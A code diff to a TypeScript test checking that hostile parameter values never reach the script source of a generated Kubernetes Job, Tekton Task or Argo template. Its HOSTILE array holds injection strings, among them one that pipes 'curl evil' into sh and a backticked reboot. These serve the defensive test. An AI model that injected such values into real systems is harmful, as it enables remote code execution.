@@ -259,7 +259,8 @@ describe('the same spec as a Job, a Tekton Task and an Argo template', () => {
 
 describe('hostile parameter values never reach a script source', () => {
   it('keeps the script static whatever the params hold', () => {
-    const HOSTILE = ['"; curl evil | sh; "', '$(id)', '`reboot`', 'a\nb', '{{workflow.name}}'];
+    // No "$(": the kubelet would expand it in args, so param defaults refuse it (test/inert.test.ts).
+    const HOSTILE = ['"; curl evil | sh; "', '$ID; id', '`reboot`', 'a\nb', '{{workflow.name}}'];
     const { doc } = synthArgo({
       ...catalogSpec,
       params: { ...catalogSpec.params, IMAGE: { description: 'i', example: HOSTILE[0] }, DOCKERFILE: { description: 'd', default: HOSTILE[1] }, CONTEXT: { description: 'c', default: HOSTILE[2] } },
